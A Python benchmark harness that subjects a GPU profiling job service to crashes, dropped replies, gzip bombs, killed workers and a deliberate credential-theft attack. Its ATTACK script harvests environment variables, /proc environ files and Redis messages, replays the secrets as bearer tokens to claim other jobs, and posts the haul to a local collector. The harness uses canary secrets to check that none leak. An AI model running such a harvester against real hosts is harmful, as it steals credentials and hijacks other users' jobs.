"""Faults and attacks against the service as an operator runs it (CPU machine): PostgreSQL and Redis on
127.0.0.1, the API in its own process (``python -m service.api.server``), real Celery worker processes
with only the broker, the service's URL and the worker token, each fault done for real.

Scenarios (each its own database, Redis database and processes):

* ``credentials``: a job submitted with a non-admin ``*`` token is the attacker. Its build reads its own
  environment and every /proc/*/environ and cmdline it can open, reads every message in Redis (job ids and
  their deliveries), tries to claim every other job it found with every value it found as a bearer token,
  and sends everything to a server of its own. A job of another repository (with a GitHub token and an LLM
  key of its own) waits in the queue meanwhile, and the worker holds a GitHub token and an LLM key of its
  own. Where this runs as root the worker runs as ``nobody`` (a worker should not run as root: a root job
  reads any process's memory); ``worker_user`` says which.
* ``repository_host``: a job whose repository URL points at a local HTTP server (http:// and https://) is
  refused at submit; one written to the database directly (as if queued before the rule), with a GitHub
  token, is refused by the worker before git runs. The server must receive nothing.
* ``many_lines``: a build that prints ``lines`` lines at once (and one line of 100,000 characters).
* ``api_down``: the API killed (SIGKILL) for ``api_down_s`` while two jobs run (each printing a line a
  second), then started again on the same port.
* ``lost_replies``: the workers reach the API through a proxy that forwards every events batch but drops
  the reply of every 4th one, after the service stored it.
* ``two_workers``: two ``intelliperf worker`` processes on one host, ``jobs`` jobs.
* ``worker_killed``: a worker killed with SIGKILL mid-job whose build left a background child, a daemon
  (``setsid``) and a double-forked orphan; then another worker takes the job.
* ``scope``: jobs of acme/kAx, acme/k_x and acme/kxx; a token scoped to acme/k_x lists them.
* ``upload_bombs``: 8 concurrent uploads of a gzip bomb (500 MiB of zeros, under the 512 MiB cap) while
  /healthz is asked every 20 ms.

Per scenario: ``jobs_lost`` (never finished, or failed where it should have succeeded), ``jobs_stuck``
(still queued or running at the end), ``jobs_run_twice`` (started more often than the scenario makes it
start), ``events_lost`` and ``events_duplicated`` (of the lines the jobs printed), ``credentials_exposed``
(secrets seen by a job or by a server the job named): all must be 0.

    python -m benchmarks.faults --out benchmarks/results/faults.json [--only credentials,api_down]

The tests (tests/service/test_faults.py) run the same scenarios at ``CI`` scale.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import platform
import signal
import socket
import subprocess
import sys
import sysconfig
import tarfile
import tempfile
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field, replace
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

from benchmarks.service import free_port, server_argv
from tests.support.processes import kill_named, live_processes, named

ROOT = Path(__file__).resolve().parents[1]
RESULTS = ROOT / "benchmarks" / "results" / "faults.json"
ADMIN = "faults-admin-secret-0123456789"
WORKER_TOKEN = "faults-worker-token-0123456789"
SECRET_KEY = "faults-service-secret-key-0123456789"
WORKER_GITHUB_TOKEN = "ghp_worker_canary_0123456789abcdef"
WORKER_LLM_KEY = "sk-worker-canary-0123456789abcdef"
VICTIM_GITHUB_TOKEN = "ghp_victim_canary_0123456789abcdef"
VICTIM_LLM_KEY = "sk-victim-canary-0123456789abcdef"
FIXTURE = ROOT / "tests" / "fixtures" / "gpu" / "transpose_bank" / "original"
EXAMPLE = ROOT / "examples" / "transpose_bank"
JOB_SPEC: dict[str, Any] = {
    "applications": [{"command": "./bin/transpose"}],
    "formula": "diagnoseOnly",
    "replay": "profile",
}
FINISHED = ("succeeded", "failed", "cancelled")


@dataclass(frozen=True)
class Scale:
    """How long the faults last and how much the jobs do. ``FULL`` is the operator's defaults (a heartbeat
    every 10 s, a worker presumed dead after 60 s) and the outage of the issue; ``CI`` the tests'."""

    heartbeat_s: float = 10.0
    worker_stale_s: float = 60.0
    api_down_s: float = 120.0
    lines: int = 1500
    jobs: int = 10
    bombs: int = 8
    bomb_bytes: int = 500 * 2**20


FULL = Scale()
CI = Scale(heartbeat_s=0.5, worker_stale_s=3.0, api_down_s=8.0)


@dataclass
class Outcome:
    """One scenario's count of what went wrong (all must be 0) and what it measured."""

    jobs: int = 0
    jobs_lost: int = 0
    jobs_stuck: int = 0
    jobs_run_twice: int = 0
    events_lost: int = 0
    events_duplicated: int = 0
    credentials_exposed: int = 0
    facts: dict[str, Any] = field(default_factory=dict)

    def failures(self) -> dict[str, int]:
        counts = asdict(self)
        return {k: v for k, v in counts.items() if k not in ("jobs", "facts") and v}


# ----------------------------------------------------------------------------------------------------------
# The stack: the API process, workers, and what a scenario reads back


def project_archive(extra: dict[str, str | bytes] | None = None) -> bytes:
    """The transpose example with its profile recorded on a GPU under ``profile/`` (so no GPU is needed),
    and ``extra`` files."""
    files: dict[str, bytes] = {p.name: p.read_bytes() for p in EXAMPLE.iterdir() if p.is_file()}
    files |= {f"profile/{p.name}": p.read_bytes() for p in FIXTURE.iterdir()}
    files |= {name: (c.encode() if isinstance(c, str) else c) for name, c in (extra or {}).items()}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755 if name.endswith((".sh", ".py")) else 0o644
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


NOBODY = 65534


def unprivileged_python() -> tuple[int, str] | None:
    """(uid, interpreter) to run a worker as ``nobody`` when this process is root: an interpreter of this
    Python version that ``nobody`` may run (a virtual environment under /root is out of its reach), given
    this checkout and this environment's packages on PYTHONPATH, if ``nobody`` can import the worker with
    them. None when not root, or when it cannot."""
    if os.geteuid() != 0:
        return None
    candidate = Path(f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}")
    if not candidate.is_file():
        return None
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": _unprivileged_path(), "HOME": "/"}
    probe = subprocess.run(
        [str(candidate), "-c", "import worker.runner, worker.job_supervisor, kombu.transport.redis"],
        cwd="/",
        env=env,
        user=NOBODY,
        group=NOBODY,
        extra_groups=[],
        capture_output=True,
        timeout=60,
        check=False,
    )
    return (NOBODY, str(candidate)) if probe.returncode == 0 else None


def _unprivileged_path() -> str:
    return os.pathsep.join([str(ROOT), sysconfig.get_paths()["purelib"]])


@dataclass
class Stack:
    folder: Path
    database_url: str
    broker_url: str
    scale: Scale
    port: int = field(default_factory=free_port)
    service_extra: dict[str, str] = field(default_factory=dict)
    api: subprocess.Popen[bytes] | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def service_env(self) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("INTELLIPERF_")}
        return env | {
            "INTELLIPERF_DATABASE_URL": self.database_url,
            "INTELLIPERF_BROKER_URL": self.broker_url,
            "INTELLIPERF_ADMIN_TOKEN": ADMIN,
            "INTELLIPERF_WORKER_TOKEN": WORKER_TOKEN,
            "INTELLIPERF_SECRET_KEY": SECRET_KEY,
            "INTELLIPERF_DATA_DIR": str(self.folder / "service-data"),
            "INTELLIPERF_HEARTBEAT_S": str(self.scale.heartbeat_s),
            "INTELLIPERF_WORKER_STALE_S": str(self.scale.worker_stale_s),
            "INTELLIPERF_DISPATCH_SWEEP_S": str(min(5.0, self.scale.worker_stale_s / 4)),
            "INTELLIPERF_EVENTS_POLL_S": "0.1",
            "PYTHONPATH": str(ROOT),
            "PYTHONUNBUFFERED": "1",
            **self.service_extra,
        }

    def start_api(self) -> None:
        log = (self.folder / "api.log").open("ab")
        with log:
            self.api = subprocess.Popen(
                server_argv(self.port, 1),
                cwd=ROOT,
                env=self.service_env(),
                stdout=log,
                stderr=log,
                start_new_session=True,
            )
        deadline = time.monotonic() + 60
        while not _answers(f"{self.url}/healthz"):
            if self.api.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"the API did not start:\n{self.log('api.log')}")
            time.sleep(0.1)

    def kill_api(self) -> None:
        """SIGKILL, as a crash would: no shutdown, no goodbye to the workers."""
        if self.api is not None and self.api.poll() is None:
            os.killpg(self.api.pid, signal.SIGKILL)
            self.api.wait()

    def log(self, name: str) -> str:
        path = self.folder / name
        return path.read_text(errors="replace")[-4000:] if path.exists() else ""

    def worker_env(self, name: str | None, service_url: str | None = None) -> dict[str, str]:
        """A GPU node's configuration: the broker, the service's URL and the worker token, and a GitHub
        token and an LLM key of the worker's own (that no job may see)."""
        env = {k: v for k, v in os.environ.items() if not k.startswith("INTELLIPERF_")}
        env |= {
            "INTELLIPERF_BROKER_URL": self.broker_url,
            "INTELLIPERF_SERVICE_URL": service_url or self.url,
            "INTELLIPERF_WORKER_TOKEN": WORKER_TOKEN,
            "INTELLIPERF_HEARTBEAT_S": str(self.scale.heartbeat_s),
            "INTELLIPERF_GITHUB_TOKEN": WORKER_GITHUB_TOKEN,
            "LLM_GATEWAY_KEY": WORKER_LLM_KEY,
            "PYTHONPATH": str(ROOT),
            "PYTHONUNBUFFERED": "1",
        }
        if name is not None:
            env["INTELLIPERF_WORKER_NAME"] = name
        return env

    @contextlib.contextmanager
    def worker(
        self,
        name: str | None,
        *,
        service_url: str | None = None,
        unprivileged: tuple[int, str] | None = None,
        cli: bool = False,
        tmp: Path | None = None,
    ) -> Iterator[subprocess.Popen[bytes]]:
        """A Celery worker process (``cli``: an ``intelliperf worker`` that starts one), waited for until
        its first heartbeat is in. ``unprivileged``: (uid, interpreter) to run it as (unprivileged_python);
        ``tmp``: its temporary folder, where its jobs' scratch folders go."""
        python = unprivileged[1] if unprivileged else sys.executable
        if cli:
            argv = [python, "-m", "intelliperf", "worker", "-Q", "gpu.nvidia.any"]
        else:
            argv = [python, "-m", "celery", "-A", "worker.app", "worker", "-P", "solo", "-c", "1"]
            argv += ["-Q", "gpu.nvidia.any", "-n", f"{name}@faults", "--without-gossip", "--without-mingle"]
        argv += [] if cli else ["--loglevel", "INFO"]
        env = self.worker_env(name, service_url)
        tmp = tmp or self.folder / f"worker-tmp-{uuid.uuid4().hex[:6]}"
        tmp.mkdir(parents=True, exist_ok=True)
        env["TMPDIR"] = str(tmp)
        options: dict[str, Any] = {}
        if unprivileged:
            uid, _ = unprivileged
            home = self.folder / f"home-{uid}"
            home.mkdir(exist_ok=True)
            for path in (home, tmp):
                os.chown(path, uid, uid)
            env |= {
                "HOME": str(home),
                "PYTHONPATH": _unprivileged_path(),
                "PATH": "/usr/local/bin:/usr/bin:/bin",
            }
            options = {"user": uid, "group": uid, "extra_groups": []}
        log_name = f"worker-{name or 'cli'}-{uuid.uuid4().hex[:4]}.log"
        with (self.folder / log_name).open("ab") as sink:
            process = subprocess.Popen(
                argv, cwd=ROOT, env=env, stdout=sink, stderr=sink, start_new_session=True, **options
            )
        try:
            self._wait_for_worker(process, name, log_name)
            yield process
        finally:
            if process.poll() is None:
                os.killpg(process.pid, signal.SIGTERM)
                try:
                    process.wait(timeout=30)
                except subprocess.TimeoutExpired:
                    os.killpg(process.pid, signal.SIGKILL)
                    process.wait()

    def _wait_for_worker(self, process: subprocess.Popen[bytes], name: str | None, log_name: str) -> None:
        before = {w["name"] for w in self.workers()}
        deadline = time.monotonic() + 60
        while True:
            now = {w["name"] for w in self.workers()}
            if (name in now) if name else (now - before):
                time.sleep(0.5)  # and a moment more to reach the broker
                return
            if process.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"the worker did not start:\n{self.log(log_name)}")
            time.sleep(0.1)

    def client(self, token: str = ADMIN, base_url: str | None = None) -> httpx.Client:
        return httpx.Client(
            base_url=base_url or self.url, headers={"Authorization": f"Bearer {token}"}, timeout=60
        )

    def workers(self) -> list[dict[str, Any]]:
        with contextlib.suppress(httpx.HTTPError), self.client() as client:
            response = client.get("/v1/workers")
            if response.status_code == 200:
                return list(response.json())
        return []

    def token(self, name: str, scopes: list[str]) -> str:
        from service.auth import create_token
        from service.db.session import Database

        database = Database(self.database_url)
        try:
            with database.session() as session:
                _row, secret = create_token(session, name, scopes)
        finally:
            database.dispose()
        return secret

    def submit(
        self,
        spec: dict[str, Any],
        archive: bytes | None = None,
        *,
        token: str = ADMIN,
        headers: dict[str, str] | None = None,
    ) -> str:
        with self.client(token) as client:
            response = client.post(
                "/v1/jobs",
                data={"spec": json.dumps(spec)},
                files={"archive": ("project.tar.gz", archive or project_archive(), "application/gzip")},
                headers=headers or {},
            )
        if response.status_code != 201:
            raise RuntimeError(f"submission refused: {response.status_code} {response.text}")
        return str(response.json()["id"])

    def job(self, job_id: str) -> dict[str, Any]:
        with self.client() as client:
            return dict(client.get(f"/v1/jobs/{job_id}").json())

    def wait_finished(self, job_ids: list[str], timeout_s: float) -> dict[str, dict[str, Any]]:
        """Each job's last state, once all have finished or ``timeout_s`` passed (then some are not)."""
        deadline = time.monotonic() + timeout_s
        states: dict[str, dict[str, Any]] = {}
        while True:
            with contextlib.suppress(httpx.HTTPError):
                states = {job_id: self.job(job_id) for job_id in job_ids}
                if all(state["status"] in FINISHED for state in states.values()):
                    return states
            if time.monotonic() > deadline:
                return states
            time.sleep(0.3)

    def events(self, job_id: str) -> list[tuple[str, str, str | None]]:
        """The job's stored events: (kind, message, stage), in order."""
        from sqlalchemy import select

        from service.db.models import JobEvent
        from service.db.session import Database

        database = Database(self.database_url)
        try:
            with database.session() as session:
                rows = session.execute(
                    select(JobEvent.kind, JobEvent.message, JobEvent.stage)
                    .where(JobEvent.job_id == job_id)
                    .order_by(JobEvent.id)
                ).all()
        finally:
            database.dispose()
        return [(kind, message, stage) for kind, message, stage in rows]


def _answers(url: str) -> bool:
    try:
        return httpx.get(url, timeout=2).status_code == 200
    except httpx.HTTPError:
        return False


@contextlib.contextmanager
def running_stack(
    folder: Path, database_url: str, broker_url: str, scale: Scale, **service_extra: str
) -> Iterator[Stack]:
    stack = Stack(folder, database_url, broker_url, scale, service_extra=service_extra)
    folder.mkdir(parents=True, exist_ok=True)
    stack.start_api()
    try:
        yield stack
    finally:
        stack.kill_api()


def judge(
    stack: Stack, expected: dict[str, str], states: dict[str, dict[str, Any]], runs: int = 1
) -> Outcome:
    """``expected``: each job's status as it should end. A job that never finished is stuck; one that ended
    otherwise is lost; one started more than ``runs`` times ran twice."""
    outcome = Outcome(jobs=len(expected))
    for job_id, status in expected.items():
        state = states.get(job_id, {})
        if state.get("status") not in FINISHED:
            outcome.jobs_stuck += 1
        elif state["status"] != status:
            outcome.jobs_lost += 1
        started = sum(
            1 for kind, message, _ in stack.events(job_id) if kind == "state" and "started on" in message
        )
        outcome.jobs_run_twice += started > runs
    return outcome


def count_lines(stack: Stack, job_id: str, expected: list[str]) -> tuple[int, int]:
    """(lost, duplicated) of the ``expected`` log lines among the job's events."""
    seen: dict[str, int] = {}
    wanted = set(expected)
    for _kind, message, _stage in stack.events(job_id):
        if message in wanted:
            seen[message] = seen.get(message, 0) + 1
    lost = sum(1 for line in expected if line not in seen)
    duplicated = sum(count - 1 for count in seen.values())
    return lost, duplicated


def printing(lines: list[str], pause_s: float = 0.0) -> str:
    """A build command that writes ``lines`` to the engine's output (the worker's event stream): the
    build's own output is captured, so it writes to its parent's standard output."""
    body = "".join(f"echo {line}\n" + (f"sleep {pause_s}\n" if pause_s else "") for line in lines)
    return f"exec 3>/proc/$PPID/fd/1\n{body}".replace("echo ", "echo >&3 ")


# ----------------------------------------------------------------------------------------------------------
# Helper servers: an attacker's collector, and a proxy that loses replies


class _LocalServer(ThreadingHTTPServer):
    """An HTTP server on a free port of 127.0.0.1, serving from a thread until the ``with`` block ends."""

    daemon_threads = True

    def __init__(self, handler: type[BaseHTTPRequestHandler]) -> None:
        super().__init__(("127.0.0.1", 0), handler)

    def __enter__(self) -> Any:
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.shutdown()
        self.server_close()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Recorder(_LocalServer):
    """Records every request (method, path, headers, body) and answers 200 with an empty JSON object."""

    def __init__(self) -> None:
        super().__init__(_RecordingHandler)
        self.requests: list[tuple[str, str, dict[str, str], bytes]] = []


class _RecordingHandler(BaseHTTPRequestHandler):
    server: Recorder

    def _record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.requests.append((self.command, self.path, dict(self.headers), body))
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    do_GET = do_POST = do_PUT = _record

    def log_message(self, *_: object) -> None:
        pass


class LosingProxy(_LocalServer):
    """Forwards every request to ``target``; of the POSTs of events batches, every ``every``-th reply is
    dropped after the service answered (the connection closes with no reply): a lost 204."""

    def __init__(self, target: str, every: int = 4) -> None:
        super().__init__(_ProxyHandler)
        self.target, self.every = target, every
        self.batches = self.dropped = 0
        self.sent: dict[str, dict[tuple[str, int], list[str]]] = {}
        """Per job, the messages of each events batch the workers sent, by (run id, batch number)."""
        self.lock = threading.Lock()
        self.http = httpx.Client(base_url=target, timeout=60)

    def __exit__(self, *_: object) -> None:
        super().__exit__()
        self.http.close()


class _ProxyHandler(BaseHTTPRequestHandler):
    server: LosingProxy
    protocol_version = "HTTP/1.1"

    def _forward(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        headers = {k: v for k, v in self.headers.items() if k.lower() not in ("host", "content-length")}
        response = self.server.http.request(self.command, self.path, headers=headers, content=body)
        drop = False
        if self.command == "POST" and self.path.endswith("/events"):
            job_id = self.path.rstrip("/").split("/")[-2]
            batch = json.loads(body)
            with self.server.lock:
                key = (batch["run_id"], batch["batch"])
                self.server.sent.setdefault(job_id, {})[key] = [e["message"] for e in batch["events"]]
                self.server.batches += 1
                drop = self.server.batches % self.server.every == 0
                self.server.dropped += drop
        if drop:
            self.close_connection = True
            with contextlib.suppress(OSError):
                self.connection.shutdown(socket.SHUT_RDWR)
            return
        self.send_response(response.status_code)
        for name, value in response.headers.items():
            if name.lower() not in ("transfer-encoding", "connection", "content-length", "content-encoding"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(response.content)))
        self.end_headers()
        self.wfile.write(response.content)

    do_GET = do_POST = do_PUT = _forward

    def log_message(self, *_: object) -> None:
        pass


# ----------------------------------------------------------------------------------------------------------
# The scenarios


ATTACK = r"""
import base64, json, os, socket, time, urllib.request

SERVICE, COLLECTOR = {service!r}, {collector!r}
found = {{"own_env": dict(os.environ), "proc": {{}}, "redis": [], "claims": []}}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{{pid}}/{{part}}", "rb") as f:
                    found["proc"][f"{{pid}}/{{part}}"] = f.read().decode(errors="replace")
            except OSError:
                pass

def resp(sock, *args):
    parts = [f"*{{len(args)}}\r\n".encode()] + [f"${{len(a)}}\r\n{{a}}\r\n".encode() for a in args]
    sock.sendall(b"".join(parts))
    return read(sock.makefile("rb"))

def read(f):
    line = f.readline()
    kind, rest = line[:1], line[1:-2]
    if kind in (b"+", b"-", b":"):
        return rest.decode()
    if kind == b"$":
        return None if int(rest) < 0 else f.read(int(rest) + 2)[:-2].decode(errors="replace")
    if kind == b"*":
        return [read(f) for _ in range(max(int(rest), 0))]
    return None

def broker_jobs():
    found["redis"] = []
    try:
        for db in range(16):
            with socket.create_connection(("127.0.0.1", 6379), timeout=2) as sock:
                resp(sock, "SELECT", str(db))
                for key in resp(sock, "KEYS", "*") or []:
                    kind = resp(sock, "TYPE", key)
                    values = resp(sock, "LRANGE", key, "0", "-1") if kind == "list" else (
                        resp(sock, "HVALS", key) if kind == "hash" else [])
                    found["redis"].extend(v for v in values or [] if isinstance(v, str))
    except OSError as exc:
        found["redis_error"] = str(exc)
    jobs = {{}}
    for raw in found["redis"]:
        try:
            message = json.loads(raw)
            message = message[0] if isinstance(message, list) else message
            args = json.loads(base64.b64decode(message["body"]))[0]
            jobs[args[0]] = args[1:]
        except Exception:
            pass
    return jobs

# its own job's message is in the broker while it runs; wait for another job's to be there too
deadline = time.monotonic() + 60
while len(jobs := broker_jobs()) < 2 and time.monotonic() < deadline:
    time.sleep(0.5)
secrets = {{v for v in found["own_env"].values()}}
for text in found["proc"].values():
    secrets.update(part.split("=", 1)[-1] for part in text.split("\0") if part)
tokens = [""] + sorted(s for s in secrets if 16 <= len(s) <= 200)[:200]
for job_id, rest in jobs.items():
    for delivery in (rest or ["x" * 43]):
        for token in tokens:
            body = json.dumps({{"worker": "attacker", "run_id": "attack-run", "delivery": delivery}}).encode()
            request = urllib.request.Request(
                f"{{SERVICE}}/v1/worker/jobs/{{job_id}}/claim", data=body, method="POST",
                headers={{"Content-Type": "application/json", "Authorization": f"Bearer {{token}}"}},
            )
            try:
                with urllib.request.urlopen(request, timeout=10) as answer:
                    status, text = answer.status, answer.read().decode(errors="replace")
            except urllib.error.HTTPError as exc:
                status, text = exc.code, ""
            except OSError:
                status, text = 0, ""
            found["claims"].append([job_id, status, text])
found["jobs_seen"] = sorted(jobs)
report = urllib.request.Request(COLLECTOR, data=json.dumps(found).encode(), method="POST")
urllib.request.urlopen(report, timeout=30)
"""


def scenario_credentials(stack: Stack) -> Outcome:
    worker_user = unprivileged_python()
    with Recorder() as collector:
        attack = ATTACK.format(service=stack.url, collector=collector.url)
        attacker_token = stack.token("attacker", ["*"])
        victim_token = stack.token("victim", ["acme/victim"])
        spec = {
            **JOB_SPEC,
            "repository": {"url": "https://github.com/acme/tools.git"},
            "build_command": "/usr/bin/python3 attack.py",
        }
        victim_spec = {**JOB_SPEC, "repository": {"url": "https://github.com/acme/victim.git"}}
        victim_headers = {
            "X-IntelliPerf-GitHub-Token": VICTIM_GITHUB_TOKEN,
            "X-IntelliPerf-LLM-Key": VICTIM_LLM_KEY,
        }
        with stack.worker("w-attacked", unprivileged=worker_user):
            attacker = stack.submit(spec, project_archive({"attack.py": attack}), token=attacker_token)
            _wait(lambda: stack.job(attacker)["status"] != "queued", 60)
            victim = stack.submit(victim_spec, token=victim_token, headers=victim_headers)
            states = stack.wait_finished([attacker, victim], 180)
        reports = [json.loads(body) for method, _, _, body in collector.requests if method == "POST"]
    outcome = judge(stack, {attacker: "succeeded", victim: "succeeded"}, states)
    secrets = {
        "worker token": WORKER_TOKEN,
        "worker GitHub token": WORKER_GITHUB_TOKEN,
        "worker LLM key": WORKER_LLM_KEY,
        "victim GitHub token": VICTIM_GITHUB_TOKEN,
        "victim LLM key": VICTIM_LLM_KEY,
        "admin token": ADMIN,
        "service secret key": SECRET_KEY,
        "victim API token": victim_token,
    }
    seen = json.dumps(reports)
    exposed = sorted(name for name, value in secrets.items() if value in seen)
    report = reports[0] if reports else {}
    claims = report.get("claims", [])
    victim_events = " ".join(message for _, message, _ in stack.events(victim))
    from worker.job_environment import engine_settings_names

    leaked_settings = sorted(
        name
        for name in report.get("own_env", {})
        if name.startswith("INTELLIPERF_") and name not in engine_settings_names()
    )
    outcome.credentials_exposed = len(exposed) + len(leaked_settings)
    outcome.facts = {
        "worker_user": "nobody" if worker_user else ("root" if os.geteuid() == 0 else "the caller"),
        "attack_reported": bool(reports),
        "secrets_exposed": exposed,
        "worker_settings_in_job_env": leaked_settings,
        "job_env_names": sorted(report.get("own_env", {})),
        "proc_files_read": len(report.get("proc", {})),
        "redis_messages_read": len(report.get("redis", [])),
        "jobs_seen_in_broker": len(report.get("jobs_seen", [])),
        "claims_tried": len(claims),
        "claims_2xx": sum(1 for _, status, _ in claims if 200 <= status < 300),
        "claim_statuses": sorted({status for _, status, _ in claims}),
        "victim_started_by_attacker": "attacker" in victim_events,
        "victim_runs": states.get(victim, {}).get("runs"),
    }
    outcome.credentials_exposed += outcome.facts["claims_2xx"] + (not reports)
    return outcome


def scenario_repository_host(stack: Stack) -> Outcome:
    from service.db.session import Database
    from service.jobs import submit
    from service.secrets import SecretBox, store_secrets

    with Recorder() as server:
        host = server.url.removeprefix("http://")
        refusals = []
        with stack.client() as client:
            for scheme in ("http", "https"):
                spec = {**JOB_SPEC, "repository": {"url": f"{scheme}://{host}/acme/kernels.git"}}
                response = client.post(
                    "/v1/jobs", json=spec, headers={"X-IntelliPerf-GitHub-Token": VICTIM_GITHUB_TOKEN}
                )
                refusals.append((response.status_code, host in response.text))
        # as if queued before the rule: straight into the database, with a GitHub token
        from pydantic import SecretStr

        from intelliperf.contract import JobSpec
        from service.auth import ADMIN as ADMIN_PRINCIPAL

        database = Database(stack.database_url)
        spec = JobSpec.model_validate({**JOB_SPEC, "repository": {"url": f"http://{host}/acme/kernels.git"}})
        with database.session() as session:
            job, _ = submit(session, spec, principal=ADMIN_PRINCIPAL, repository="acme/kernels")
            store_secrets(
                session, job.id, {"github_token": VICTIM_GITHUB_TOKEN}, SecretBox(SecretStr(SECRET_KEY))
            )
        database.dispose()
        with stack.worker("w-hosts"):  # the dispatcher's next sweep sends what the database holds
            states = stack.wait_finished([job.id], 120)
        requests = list(server.requests)
    outcome = judge(stack, {job.id: "failed"}, states)
    outcome.credentials_exposed = sum(1 for _, _, headers, _ in requests if "Authorization" in headers)
    outcome.facts = {
        "submit_refusals": [status for status, _ in refusals],
        "refusals_name_the_host": all(named for _, named in refusals),
        "worker_outcome": states.get(job.id, {}).get("outcome"),
        "worker_error": (states.get(job.id, {}).get("error") or "")[:300],
        "requests_received": len(requests),
    }
    outcome.jobs_lost += sum(1 for status, _ in refusals if status != 422)
    outcome.jobs_lost += states.get(job.id, {}).get("outcome") != "source_error"
    return outcome


def scenario_many_lines(stack: Stack) -> Outcome:
    lines = [f"line-{i:05d}" for i in range(stack.scale.lines)]
    long_line = "x" * 100_000
    build = "exec 3>/proc/$PPID/fd/1\n"
    build += f"printf 'line-%05d\\n' $(seq 0 {stack.scale.lines - 1}) >&3\necho {long_line} >&3"
    with stack.worker("w-lines"):
        job_id = stack.submit({**JOB_SPEC, "build_command": build})
        states = stack.wait_finished([job_id], 120)
    outcome = judge(stack, {job_id: "succeeded"}, states)
    outcome.events_lost, outcome.events_duplicated = count_lines(stack, job_id, lines)
    cut = [m for _, m, _ in stack.events(job_id) if m.startswith("xxxx")]
    outcome.facts = {
        "lines": len(lines),
        "long_line_stored_chars": [len(m) for m in cut],
        "outcome": states.get(job_id, {}).get("outcome"),
    }
    outcome.events_lost += len(cut) != 1
    return outcome


def scenario_api_down(stack: Stack) -> Outcome:
    ticks = int(stack.scale.api_down_s) + 10
    specs = {}
    for n in range(2):
        lines = [f"tick-{n}-{i:04d}" for i in range(ticks)]
        specs[n] = lines
    with stack.worker("w-down-0"), stack.worker("w-down-1"):
        jobs = {
            stack.submit({**JOB_SPEC, "build_command": printing(lines, 1.0)}): lines
            for lines in specs.values()
        }
        _wait(lambda: all(_printed(stack, job, lines[0]) for job, lines in jobs.items()), 60)
        stack.kill_api()
        down_at = time.monotonic()
        time.sleep(stack.scale.api_down_s)
        stack.start_api()
        down_s = time.monotonic() - down_at
        states = stack.wait_finished(list(jobs), ticks + 120)
    outcome = judge(stack, dict.fromkeys(jobs, "succeeded"), states)
    for job_id, lines in jobs.items():
        lost, duplicated = count_lines(stack, job_id, lines)
        outcome.events_lost += lost
        outcome.events_duplicated += duplicated
    outcome.facts = {"api_down_s": round(down_s, 1), "runs": [state.get("runs") for state in states.values()]}
    return outcome


def _printed(stack: Stack, job_id: str, line: str) -> bool:
    return any(message == line for _, message, _ in stack.events(job_id))


def scenario_lost_replies(stack: Stack) -> Outcome:
    with LosingProxy(stack.url) as proxy:
        jobs: dict[str, list[str]] = {}
        with stack.worker("w-lossy", service_url=proxy.url):
            for n in range(3):
                lines = [f"burst-{n}-{i:03d}" for i in range(40)]
                build = printing(lines[:20]) + "sleep 0.5\n" + printing(lines[20:]).split("\n", 1)[1]
                jobs[stack.submit({**JOB_SPEC, "build_command": build})] = lines
            states = stack.wait_finished(list(jobs), 180)
        dropped, batches, sent = proxy.dropped, proxy.batches, proxy.sent
    outcome = judge(stack, dict.fromkeys(jobs, "succeeded"), states)
    for job_id, lines in jobs.items():
        lost, duplicated = count_lines(stack, job_id, lines)
        outcome.events_lost += lost
        outcome.events_duplicated += duplicated
        # every message of every batch the worker sent (a batch sent again counted once) is stored once
        expected = Counter(m for messages in sent.get(job_id, {}).values() for m in messages)
        stored = Counter(m for kind, m, _ in stack.events(job_id) if kind != "state")
        outcome.events_lost += sum((expected - stored).values())
        outcome.events_duplicated += sum((stored - expected).values())
    outcome.facts = {"event_batches_through_proxy": batches, "replies_dropped": dropped}
    return outcome


def scenario_two_workers(stack: Stack) -> Outcome:
    with stack.worker(None, cli=True), stack.worker(None, cli=True):
        jobs = [stack.submit({**JOB_SPEC, "build_command": "sleep 1"}) for _ in range(stack.scale.jobs)]
        states = stack.wait_finished(jobs, 60 + 10 * stack.scale.jobs)
        names = sorted(w["name"] for w in stack.workers())
    outcome = judge(stack, dict.fromkeys(jobs, "succeeded"), states)
    outcome.facts = {
        "workers_listed": names,
        "jobs_per_worker": {
            name: sum(1 for s in states.values() if s.get("worker") == name) for name in names
        },
    }
    outcome.jobs_lost += len(set(names)) != 2
    return outcome


SPAWNER = """\
exec -a {token}-child sleep 600 < /dev/null > /dev/null 2>&1 &
setsid bash -c 'exec -a {token}-daemon sleep 600' < /dev/null > /dev/null 2>&1 &
bash -c '(exec -a {token}-orphan sleep 600 < /dev/null > /dev/null 2>&1 &) ; exit 0'
if [ ! -e {marker} ]; then touch {marker}; exec 3>/proc/$PPID/fd/1; echo >&3 spawned; sleep 600; fi
"""


def supervisors_of(worker_pid: int) -> list[int]:
    """The job supervisors (worker.job_supervisor) a worker started: their --worker-pid names it."""
    wanted = (b"worker.job_supervisor", b"--worker-pid", str(worker_pid).encode())
    return [p.pid for p in live_processes() if all(part in p.argv for part in wanted)]


def process_status(pid: int) -> dict[str, str] | str:
    """A process's state, parent and signal masks from /proc/PID/status, or "gone": what a cleanup that
